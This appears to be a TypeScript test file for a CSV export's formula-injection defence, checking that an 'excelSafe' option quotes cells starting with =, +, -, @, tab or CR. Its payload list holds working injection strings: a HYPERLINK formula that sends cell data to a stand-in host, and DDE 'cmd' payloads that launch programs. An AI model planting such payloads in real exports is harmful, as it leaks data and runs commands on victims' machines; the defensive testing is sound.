/**
 * CSV formula injection (OWASP "CSV Injection"): `excelSafe` prefixes formula-like cells with `'`; without it
 * every CSV export writes the data unchanged and reads back the same. Hand-made payloads are the ones OWASP
 * lists (`=HYPERLINK`, `@SUM`, `+`/`-` arithmetic, DDE `=cmd|…`, a leading tab or CR).
 */

import { datasetToNodeEdgeCsv, exportInterop } from "@vernetzt/core/interop";
import { datasetToCsvFiles, excelSafeCell, parseDataset, startsLikeFormula } from "@vernetzt/core/io";
import fc from "fast-check";
import { describe, expect, it } from "vitest";

const PAYLOADS = [
  '=HYPERLINK("http://example.invalid/?x="&A1,"Klick")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "=cmd|' /C notepad'!'A1'",
  "\t=1+1",
  "\r=1+1",
];

const actorsCsv = [
  "id;name;district;lat;lon",
  ...PAYLOADS.map((name, i) => `a${i};"${name.replace(/"/g, '""')}";Nord;-12,5;3`),
  "b;Verein am Markt;=Süd;1;2",
].join("\n");
const tiesCsv = "source;target\na0;a1\na1;b\n";
/** The names as the importer keeps them: trimmed, so the tab and CR payloads start with `=` here. */
const NAMES = PAYLOADS.map((name) => name.trim());

async function dataset() {
  const { dataset } = await parseDataset([
    { name: "actors.csv", data: actorsCsv },
    { name: "ties.csv", data: tiesCsv },
  ]);
  return dataset!;
}

describe("excelSafeCell", () => {
  it("excelSafeCell(value) prefixes values starting with = + - @ tab or CR with a single quote", () => {
    for (const payload of PAYLOADS) expect(excelSafeCell(payload)).toBe(`'${payload}`);
  });

  it("excelSafeCell(value) leaves plain numbers, ordinary text and already quoted cells alone", () => {
    for (const value of ["-12.5", "-3,2", "+7", "42", "Verein", "", " =1", "'=1+1", "a=b"]) {
      expect(excelSafeCell(value)).toBe(value);
    }
  });

  it("no output of excelSafeCell starts like a formula, and applying it twice changes nothing (property)", () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom("=", "+", "-", "@", "\t", "\r", "1", "a", "'", " ") }),
        (s) => {
          const safe = excelSafeCell(s);
          expect(startsLikeFormula(safe)).toBe(false);
          expect(excelSafeCell(safe)).toBe(safe);
          expect(safe === s || safe === `'${s}`).toBe(true);
        },
      ),
    );
  });
});

describe("CSV exports with and without excelSafe", () => {
  it("datasetToCsvFiles(dataset) writes names as they are, and they read back unchanged (default)", async () => {
    const data = await dataset();
    expect(data.actors.map((a) => a.name).slice(0, PAYLOADS.length)).toEqual(NAMES);
    const files = datasetToCsvFiles(data);
    expect(files.find((f) => f.name === "actors.csv")!.data).toContain(",+1+1,");
    const back = (await parseDataset(files)).dataset!;
    expect(back.actors).toEqual(data.actors);
    expect(datasetToCsvFiles(data, { excelSafe: false })).toEqual(files);
  });

  it("datasetToCsvFiles(dataset, {excelSafe: true}) prefixes every formula-like cell, not numbers", async () => {
    const data = await dataset();
    const actors = String(
      datasetToCsvFiles(data, { excelSafe: true }).find((f) => f.name === "actors.csv")!.data,
    );
    const back = (await parseDataset(datasetToCsvFiles(data, { excelSafe: true }))).dataset!;
    expect(back.actors.map((a) => a.name)).toEqual([...NAMES.map((p) => `'${p}`), "Verein am Markt"]);
    expect(back.actors.at(-1)!.district).toBe("'=Süd");
    expect(back.actors[0].lat).toBe(-12.5); // a negative coordinate stays a number
    for (const line of actors.split(/\r\n/)) {
      for (const cell of line.split(",")) expect(startsLikeFormula(cell.replace(/^"/, ""))).toBe(false);
    }
  });

  it("exportInterop(dataset, CSV format, {excelSafe}) applies it to other tools' CSV layouts too", async () => {
    const data = await dataset();
    for (const format of ["nodes-edges-csv", "gephi-csv", "network-canvas-roster"] as const) {
      const safe = (await exportInterop(data, format, { excelSafe: true }))
        .map((f) => String(f.data))
        .join("");
      const plain = (await exportInterop(data, format)).map((f) => String(f.data)).join("");
      expect(safe, format).toContain("'+1+1");
      expect(plain, format).not.toContain("'+1+1");
      expect(plain, format).toContain("+1+1");
    }
    expect(await exportInterop(data, "nodes-edges-csv")).toEqual(datasetToNodeEdgeCsv(data));
  });
});
